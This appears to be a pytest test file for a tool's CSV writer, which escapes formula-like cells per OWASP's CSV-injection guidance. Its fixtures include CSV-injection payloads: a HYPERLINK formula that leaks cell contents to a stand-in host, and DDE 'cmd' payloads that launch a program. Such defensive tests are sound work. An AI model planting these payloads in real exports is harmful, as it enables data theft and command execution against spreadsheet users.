"""What the command line writes (:mod:`pdpx.cli.output`): CSV cells a spreadsheet would run as formulas are written
as text (a single quote before them, double quotes around them, as OWASP's CSV-injection guidance says), numbers stay
numbers, every other cell is written as pandas writes it; an output is the same file as an input however it is
named."""

from __future__ import annotations

import csv
import io
import os

import numpy as np
import pandas as pd
import pytest

from pdpx.cli.output import FORMULA_STARTS, csv_text, formula_like, same_file

HOSTILE = ['=HYPERLINK("http://example.com/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]
NUMBERS_AS_TEXT = ["-1.5", "+2", "-3e-4", "-.5", "12", "1.5e+10"]
SAFE = ["plain", " =leading space", "a=b", "1+1", "", "'quoted"]


def cells(text: str) -> list[list[str]]:
    """The CSV text's cells as a spreadsheet's CSV reader reads them (quotes removed)."""
    return list(csv.reader(io.StringIO(text, newline="")))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_a_cell_that_starts_a_formula_is_quoted_text_and_no_cell_starts_one():
    frame = pd.DataFrame({"level": HOSTILE + NUMBERS_AS_TEXT + SAFE})
    text = csv_text(frame)
    rows = cells(text)[1:]
    assert [r[0] for r in rows] == ["'" + v for v in HOSTILE] + NUMBERS_AS_TEXT + SAFE
    for row in rows:  # what a spreadsheet reads: no cell begins a formula unless it is a number
        assert row[0][:1] not in FORMULA_STARTS or is_number(row[0]), row
    # each is written as OWASP says: a single quote before the text, double quotes around it, its own doubled
    assert '"\'=HYPERLINK(""http://example.com/?leak=""&A1,""click"")"\n' in text
    assert "\"'@SUM(1+1)*cmd|' /C calc'!A0\"\n" in text
    assert "\n-1.5\n" in text and "\nplain\n" in text  # numbers and other cells: as pandas writes them


def test_numbers_stay_numbers_and_the_table_reads_back():
    frame = pd.DataFrame({
        "feature_set": ["=a", "=a", "b"], "x_1": [-1.5, np.nan, -np.inf], "row": pd.array([-1, None, 3], "Int64"),
        "label_1": ["-1.5", "=cmd", None], "kind": pd.Categorical(["@x", "y", "@x"]), "flag": [True, False, True],
        "day": pd.to_datetime(["2024-01-01", "2024-02-01", None]),
    })
    text = csv_text(frame)
    assert text.splitlines()[1:] == [
        "\"'=a\",-1.5,-1,-1.5,\"'@x\",True,2024-01-01",
        "\"'=a\",,,\"'=cmd\",y,False,2024-02-01",
        "b,-inf,3,,\"'@x\",True,",
    ]
    back = pd.read_csv(io.StringIO(text), dtype={"label_1": str})
    np.testing.assert_array_equal(back["x_1"], frame["x_1"])  # numbers read back as the same numbers
    assert list(back["feature_set"]) == ["'=a", "'=a", "b"]


def test_column_names_are_cells_too():
    text = csv_text(pd.DataFrame({"=by": ["a"], "yhat": [-0.25]}))
    assert text.splitlines() == ["\"'=by\",yhat", "a,-0.25"]


def test_a_table_without_such_cells_is_written_as_pandas_writes_it():
    frame = pd.DataFrame({"feature_set": ["age"] * 3, "x_1": [-1.0, 0.5, 2.0], "label_1": ["-1", "0.5", "2"],
                          "kind": pd.Categorical(["average"] * 3), "yhat": [-0.1, 0.2, np.nan]})
    assert csv_text(frame) == frame.to_csv(index=False)


def test_a_cell_cannot_forge_the_stand_in_of_an_escaped_one():
    frame = pd.DataFrame({"a": ["=x", "PDPX0000000000000000C0E"]})
    assert cells(csv_text(frame))[1:] == [["'=x"], ["PDPX0000000000000000C0E"]]


@pytest.mark.parametrize("value, expected", [
    ("=1", True), ("+a", True), ("-a", True), ("@a", True), ("\ta", True), ("\ra", True), ("-1.5", False),
    ("-inf", True), ("a", False), ("", False), (None, False), (np.nan, False), (-1.5, False), (-3, False),
    (pd.NA, False),
])
def test_formula_like(value, expected):
    assert formula_like(value) is expected


def test_same_file_sees_through_links_and_relative_names(tmp_path, monkeypatch):
    data = tmp_path / "data.csv"
    data.write_text("a\n1\n")
    (tmp_path / "sub").mkdir()
    monkeypatch.chdir(tmp_path / "sub")
    os.symlink(data, tmp_path / "link.csv")
    os.link(data, tmp_path / "hard.csv")
    for name in ("../data.csv", str(data), "../sub/../data.csv", str(tmp_path / "link.csv"), "../hard.csv"):
        assert same_file(name, str(data)), name
    assert not same_file("../other.csv", str(data))  # a file that does not exist is no input
    assert not same_file("data.csv", str(data))  # the same name in another folder


def test_same_file_is_the_file_systems_verdict_on_case(tmp_path):
    """A name in another case is the same file exactly when the file system says so: a second name for the one file
    (what a case-folding file system presents, made here with a hard link) is refused; another file whose name
    differs only in case (on a case-sensitive one) is not."""
    data = tmp_path / "Data.csv"
    data.write_text("a\n1\n")
    os.link(data, tmp_path / "DATA.CSV")
    assert same_file(tmp_path / "DATA.CSV", data)
    (tmp_path / "sub").mkdir()
    other = tmp_path / "sub" / "data.csv"
    other.write_text("a\n2\n")
    assert not same_file(other, tmp_path / "sub" / "Data.csv")  # absent: compared by name, case kept on POSIX
    (tmp_path / "sub" / "Data.csv").write_text("a\n3\n")
    assert not same_file(other, tmp_path / "sub" / "Data.csv")


def test_many_distinct_escaped_cells_are_each_written_in_their_place():
    levels = [f"={i}+cmd" for i in range(40)] + [f"-{i}" for i in range(40)]  # escaped ones, and numbers
    frame = pd.DataFrame({"level": levels * 2, "yhat": np.arange(160) - 80.5})
    rows = cells(csv_text(frame))[1:]
    assert [r[0] for r in rows] == [("'" + v) if v.startswith("=") else v for v in levels * 2]
    assert [float(r[1]) for r in rows] == list(frame["yhat"])
